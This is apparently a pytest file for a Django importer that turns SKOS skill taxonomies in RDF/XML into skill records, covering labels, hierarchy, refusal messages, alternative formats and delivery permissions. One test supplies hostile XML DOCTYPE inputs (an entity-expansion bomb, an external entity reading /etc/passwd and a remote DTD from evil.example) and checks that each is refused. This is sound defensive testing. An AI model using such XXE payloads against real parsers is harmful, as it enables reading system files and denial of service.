"""SKOS in RDF/XML: what is read, on which line it is refused, and that nothing is fetched or expanded."""

import pytest

from bekwaam.domains.deliveries.enums import RunState
from bekwaam.domains.skills.importer import FunctionSkillImporter, SkillImporter
from bekwaam.domains.skills.models import Skill
from bekwaam.kernel.actors import Actor, Grant, Role
from bekwaam.kernel.ids import new_id
from tests.domains.skills.importer.delivering import counts, delivered, previewed, refusals

pytestmark = [pytest.mark.django_db, pytest.mark.eis("S-2")]

HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:skos="http://www.w3.org/2004/02/skos/core#"
  xmlns:esco="http://data.example.eu/model#">
"""
BODY = """  <skos:ConceptScheme rdf:about="http://skills.example/schema"><skos:prefLabel xml:lang="nl">Voorbeeld</skos:prefLabel></skos:ConceptScheme>
  <skos:Concept rdf:about="http://skills.example/id/groep">
    <skos:prefLabel xml:lang="en">Talking</skos:prefLabel>
    <skos:prefLabel xml:lang="nl">Praten</skos:prefLabel>
    <skos:narrower rdf:resource="http://skills.example/id/2"/>
    <skos:inScheme rdf:resource="http://skills.example/schema"/>
  </skos:Concept>
  <rdf:Description rdf:about="http://skills.example/id/1">
    <rdf:type rdf:resource="http://www.w3.org/2004/02/skos/core#Concept"/>
    <skos:notation>GES-1</skos:notation>
    <skos:prefLabel xml:lang="nl">Gesprekken
      voeren &amp; leiden</skos:prefLabel>
    <skos:altLabel xml:lang="nl">baliegesprek; aan de balie</skos:altLabel>
    <skos:altLabel xml:lang="fr">entretien</skos:altLabel>
    <skos:definition xml:lang="nl">Je voert een gesprek.</skos:definition>
    <skos:broader><skos:Concept rdf:about="http://skills.example/id/groep"/></skos:broader>
    <skos:related rdf:resource="http://skills.example/id/2"/>
    <skos:inScheme rdf:resource="http://skills.example/schema"/>
  </rdf:Description>
  <skos:Concept rdf:about="http://skills.example/id/2">
    <skos:prefLabel>Luisteren</skos:prefLabel>
    <esco:skillType rdf:resource="http://data.example.eu/skill-type/knowledge"/>
    <skos:inScheme rdf:resource="http://skills.example/schema"/>
  </skos:Concept>
"""
FILE = f"{HEAD}{BODY}</rdf:RDF>\n"


def test_concepts_become_skills_with_their_group_names_and_relatives(noord, moment) -> None:
    run = delivered(FILE, at=moment)
    assert (run.sentence, refusals(run), counts(run)) == ("", [], {"new": 3})
    found = Skill.objects.select_related("broader").get(code="GES-1")
    assert found.label == "Gesprekken voeren & leiden"
    assert (found.definition, found.uri) == ("Je voert een gesprek.", "http://skills.example/id/1")
    assert found.alt_labels == ["baliegesprek", "aan de balie"]
    assert (found.broader.code, found.broader.label) == ("groep", "Praten")
    below = Skill.objects.select_related("broader").get(code="2")
    assert (below.broader.code, below.kind, below.source) == (
        "groep",
        "knowledge",
        "http://skills.example/schema",
    )
    assert set(counts(previewed(FILE, at=moment))) == {"unchanged"}


def test_a_refusal_names_the_line_of_each_concept(noord, moment) -> None:
    lost = FILE.replace('about="http://skills.example/id/groep"/', 'about="http://skills.example/id/weg"/')
    run = previewed(lost.replace('id/2"/>\n    <skos:in', 'id/3"/>\n    <skos:in'), at=moment)
    assert (run.state, [line for line, *_ in refusals(run)]) == (RunState.PREVIEWED, [11, 19])


BOMB = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
FETCH = '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">'


@pytest.mark.parametrize("doctype", [BOMB, FETCH, REMOTE])
def test_a_document_type_is_refused_so_nothing_expands_and_nothing_is_fetched(noord, moment, doctype) -> None:
    hostile = FILE.replace("?>\n", f"?>\n{doctype}\n", 1).replace("Praten", "&a;")
    run = previewed(hostile, at=moment)
    assert (run.state, "DOCTYPE" in run.sentence) == (RunState.REFUSED, True)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (FILE.replace("</rdf:RDF>", ""), "niet te lezen (regel"),
        (f"{HEAD}</rdf:RDF>", "geen skills"),
        ('<?xml version="1.0"?><html><body>Hallo</body></html>', "geen skills"),
        (HEAD + "<a xmlns='x'>" * 60 + "</a>" * 60 + "</rdf:RDF>", "te diep"),
        ('<?xml version="1.0"?>\x00', "niet te lezen"),
    ],
)
def test_xml_that_is_no_skos_is_refused_in_words(noord, moment, content, words) -> None:
    run = previewed(content, at=moment)
    assert (run.state, words in run.sentence) == (RunState.REFUSED, True), run.sentence


def test_a_word_of_twenty_thousand_letters_is_refused_and_the_rest_is_read(noord, moment) -> None:
    run = previewed(FILE.replace("Luisteren", "L" * 20_000), at=moment)
    assert [column for _, column, _ in refusals(run)][:1] == ["naam"]


@pytest.mark.parametrize(
    ("content", "form"),
    [
        ("# schema\n@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n", "Turtle"),
        ("PREFIX skos: <http://www.w3.org/2004/02/skos/core#>\n", "Turtle"),
        ('\n{"@context": {"skos": "http://www.w3.org/2004/02/skos/core#"}, "@graph": []}', "JSON-LD"),
        ('[{"@id": "http://skills.example/1"}]', "JSON-LD"),
    ],
)
def test_skos_in_another_form_is_named_and_told_what_is_taken(noord, moment, content: str, form: str) -> None:
    run = previewed(content, at=moment)
    assert (run.state, run.sentence.startswith(f"Dit is SKOS als {form}.")) == (RunState.REFUSED, True)
    assert "RDF/XML" in run.sentence


def test_the_learning_centre_delivers_skills_too(noord) -> None:
    """For the whole organisation only, and not as somebody's substitute."""
    grants = {
        "centre": Grant(Role.ULC),
        "unit": Grant(Role.ULC, frozenset({new_id()})),
        "substitute": Grant(Role.ULC, on_behalf_of=new_id()),
        "office": Grant(Role.BACKOFFICE),
    }
    for importer in (SkillImporter(), FunctionSkillImporter()):
        may = {
            name: bool(importer.may_deliver(Actor(noord, new_id(), name, (grant,))))
            for name, grant in grants.items()
        }
        assert may == {"centre": True, "unit": False, "substitute": False, "office": False}
